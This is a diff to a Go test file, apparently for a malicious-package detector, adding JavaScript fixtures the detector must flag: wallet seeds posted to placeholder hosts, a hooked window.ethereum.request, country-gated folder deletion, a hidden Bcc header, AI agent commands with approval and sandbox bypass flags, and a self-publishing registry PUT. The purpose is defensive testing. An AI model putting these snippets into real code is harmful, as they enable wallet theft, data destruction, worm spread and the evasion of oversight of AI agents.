@@ -40,13 +40,15 @@ func TestTechniques(t *testing.T) {
 		old, new map[string]string
 		high     bool
 		id       string // a high signal with this id, when high and set
+		medium   string // a medium signal with this id, when not high and set
+		quiet    bool   // the risk stays below medium
 	}{
 		// String-table obfuscation without _0x names (javascript-obfuscator
 		// with mangled identifiers), injected into a load-time file.
 		{name: "string table rotation with mangled names", new: ctAppend(ctMarker + rotation), high: true, id: ObfuscatedCode},
 		{name: "method calls through quoted names", new: ctAppend(calls.String()), high: true, id: ObfuscatedCode},
-		{name: "reserved words in brackets are ES3 code, not a disguise", new: ctAppend(reserved.String())},
-		{name: "a queue rotated with dot calls", new: ctAppend("queue.push(queue.shift());")},
+		{name: "reserved words in brackets are ES3 code, not a disguise", quiet: true, new: ctAppend(reserved.String())},
+		{name: "a queue rotated with dot calls", quiet: true, new: ctAppend("queue.push(queue.shift());")},
 
 		// Key material written into a request to a host (xrpl, @solana/web3.js).
 		{name: "seed in a request header", high: true, new: ctAppend(
@@ -58,6 +60,11 @@ func TestTechniques(t *testing.T) {
 			"}")},
 		{name: "mnemonic in a request body", high: true, new: ctAppend(
 			"axios.post('https://api.wallet-sync.invalid/v1', { phrase: wallet.mnemonic });")},
+		{name: "seed in a request body built just before", high: true, new: ctAppend(
+			"function report(seed) {",
+			"  const payload = { s: seed, t: Date.now() };",
+			"  void fetch('https://telemetry.wallet-tools.invalid/c', { method: 'POST', body: JSON.stringify(payload) });",
+			"}")},
 		{name: "seeded query parameter is not a seed", new: ctAppend("fetch('/api/items?reseeded=1').then((r) => r.json());")},
 
 		// Wallet calls next to a network read, in a package that is not about wallets (lottie-player).
@@ -66,6 +73,14 @@ func TestTechniques(t *testing.T) {
 			"  const cfg = await fetch('https://cdn.anim-assets.invalid/c').then((r) => r.json());",
 			"  await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: cfg.to }] });",
 			"}")},
+		{name: "wallet provider's request method overwritten", high: true, id: WalletHook, new: ctAppend(
+			"if (window.ethereum) {",
+			"  const orig = window.ethereum.request.bind(window.ethereum);",
+			"  window.ethereum.request = async (a) => orig(swap(a));",
+			"}")},
+		{name: "wallet library wrapping its provider", old: ctWith(map[string]string{"package.json": ttManifest(`,"keywords":["ethereum"]`)}),
+			new: ttWith([]string{"if (window.ethereum) { const o = window.ethereum.request; window.ethereum.request = (a) => log(a) || o(a); }"},
+				map[string]string{"package.json": ttManifest(`,"keywords":["ethereum"]`)})},
 		{name: "wallet library detecting a provider", old: ctWith(map[string]string{"package.json": ttManifest(`,"keywords":["web3","wallet"]`)}),
 			new: ttWith([]string{
 				"function getProvider() { return typeof window !== 'undefined' && window.ethereum; }",
@@ -91,6 +106,12 @@ func TestTechniques(t *testing.T) {
 			"  const u = JSON.parse(b)[c.toString('utf8')].toLowerCase();",
 			"  if (u.includes(e.toString('utf8'))) h('./');",
 			"}));")},
+		{name: "country from a geolocation service compared", high: true, new: ctAppend(
+			"const geo = await (await fetch('https://ipapi.co/json/')).json();",
+			"if (geo.country_code === 'IL') fs.rmSync(dir, { recursive: true, force: true });")},
+		{name: "rows filtered by country and written", quiet: true, new: ctAppend(
+			"const rows = require('./src.json').filter((r) => r.country !== 'Antarctica');",
+			"fs.writeFileSync(out, JSON.stringify(rows));")},
 		{name: "removal behind a fixed date", high: true, id: Persistence, new: ctAppend(
 			"if (Date.now() > Date.parse('2026-03-01')) {",
 			"  for (const f of fs.readdirSync('.')) fs.rmSync(f, { recursive: true, force: true });",
@@ -103,7 +124,7 @@ func TestTechniques(t *testing.T) {
 			"if (tz === 'Europe/Moscow') fs.rmSync(dir, { recursive: true });")},
 		{name: "removal of the working folder", high: true, id: Persistence, new: ctAppend(
 			"fs.rmSync(process.cwd(), { recursive: true, force: true });")},
-		{name: "deprecation warning behind a date", new: ctAppend(
+		{name: "deprecation warning behind a date", quiet: true, new: ctAppend(
 			"if (Date.now() > Date.parse('2026-06-01')) process.emitWarning('fx 1.x is deprecated');")},
 		{name: "cache expiry removes a cache file", new: ctAppend(
 			"if (Date.now() - fs.statSync(cacheFile).mtimeMs > 86400000) fs.unlinkSync(cacheFile);")},
@@ -123,10 +144,10 @@ func TestTechniques(t *testing.T) {
 			"if (fs.existsSync(t)) fs.writeFileSync(t, tpl);")},
 		{name: "inline node_modules path in a write", high: true, new: ctAppend(
 			"fs.appendFileSync(path.join(root, 'node_modules/web3/index.js'), hook);")},
-		{name: "tool cache under node_modules", new: ctAppend(
+		{name: "tool cache under node_modules", quiet: true, new: ctAppend(
 			"const p = path.join(process.cwd(), 'node_modules', '.cache', 'fx', key);",
 			"fs.writeFileSync(p, value);")},
-		{name: "own folder under node_modules", new: ctAppend(
+		{name: "own folder under node_modules", quiet: true, new: ctAppend(
 			"const p = path.join(process.cwd(), 'node_modules', 'fx', 'bin', 'fx.exe');",
 			"fs.writeFileSync(p, binary);")},
 		{name: "reading another package is not writing it", new: ctAppend(
@@ -148,6 +169,8 @@ func TestTechniques(t *testing.T) {
 			"client.sendEmail({", "  From: from,", "  To: to,", "  Bcc: 'phan@giftshop.invalid',", "  Subject: subject,", "});")},
 		{name: "minified bcc field", high: true, new: ctAppend(`t.sendMail({from:e,to:n,bcc:"copy@mail-archive.invalid",subject:r});`)},
 		{name: "bcc header set to an address", high: true, new: ctAppend(`msg.setHeader('Bcc', 'x@collect.invalid');`)},
+		{name: "bcc as a custom header", high: true, new: ctAppend(
+			"client.sendEmail({ To: to, Headers: [{ Name: 'Bcc', Value: 'inbox@relay.invalid' }] });")},
 		{name: "bcc from the caller's options", new: ctAppend("if (opts.bcc) headers.Bcc = opts.bcc;", "const m = { bcc: opts.bcc || [] };")},
 		{name: "bcc to a reserved example domain", new: ctAppend("const defaults = { bcc: 'archive@example.com' };")},
 		{name: "bcc in a test fixture", new: ctWith(map[string]string{
@@ -178,12 +201,30 @@ func TestTechniques(t *testing.T) {
 
 		// Install-time files: a link in a printed notice is not an address
 		// the code talks to.
-		{name: "install script prints a new link", old: ctWith(map[string]string{
+		{name: "install script prints a new link", quiet: true, old: ctWith(map[string]string{
 			"package.json": ttManifest(`,"scripts":{"postinstall":"node notice.js"}`),
 			"notice.js":    "console.log('Thanks for installing fx');\n"}),
 			new: ctWith(map[string]string{
 				"package.json": ttManifest(`,"scripts":{"postinstall":"node notice.js"}`),
 				"notice.js":    "if (!process.env.CI) console.log('fx collects anonymous telemetry. Opt out: https://fx-telemetry.invalid/opt-out');\n"})},
+
+		// AI agent command lines with their permission checks off, in any
+		// of the agents' spellings (nx s1ngularity).
+		{name: "agent permission mode bypass", high: true, id: Persistence, new: ctAppend(
+			"require('child_process').execSync(`claude -p \"${prompt}\" --permission-mode bypassPermissions`);")},
+		{name: "agent sandbox bypass", high: true, new: ctAppend(
+			"spawn('codex', ['exec', '--dangerously-bypass-approvals-and-sandbox', prompt]);")},
+
+		// Publishing through the registry API instead of the npm CLI (worms).
+		{name: "package document put to the registry", high: true, id: SelfPropagation, new: ctAppend(
+			"const doc = { name, versions: { [v]: meta }, _attachments: { [name + '-' + v + '.tgz']: { data: tgz.toString('base64') } } };",
+			"https.request({ hostname: 'registry.npmjs.org', path: '/' + name, method: 'PUT' }).end(JSON.stringify(doc));")},
+		{name: "attachments of a local document", new: ctAppend("const files = Object.keys(doc._attachments || {});")},
+
+		// A script element pointed at a new host loads code no diff shows.
+		{name: "script loaded from a new host", medium: NewEndpoint, new: ctAppend(
+			"var s = document.createElement('script'); s.src = 'https://player-cdn.invalid/v2/loader.js'; document.head.appendChild(s);")},
+		{name: "link to a new host in a message", quiet: true, new: ctAppend("console.warn('see https://docs.new-site.invalid/migrate');")},
 
 		// Code fetched with an HTTP client module and compiled.
 		{name: "HTTP client response compiled with new Function", high: true, id: DynamicCode, new: ctAppend(
@@ -200,6 +241,17 @@ func TestTechniques(t *testing.T) {
 			r := assess(t, old, tt.new)
 			if got := r.Risk.Level == RiskHigh; got != tt.high {
 				t.Fatalf("risk %s, want high=%v; signals %+v", r.Risk.Level, tt.high, r.Signals)
+			}
+			if !tt.high && tt.medium != "" {
+				for _, s := range r.Signals {
+					if s.ID == tt.medium && s.Severity == Medium {
+						return
+					}
+				}
+				t.Errorf("no medium %s: %+v", tt.medium, r.Signals)
+			}
+			if tt.quiet && r.Risk.Level == RiskMedium {
+				t.Errorf("risk medium: %+v", r.Signals)
 			}
 			if tt.high && tt.id != "" {
 				for _, s := range r.Signals {
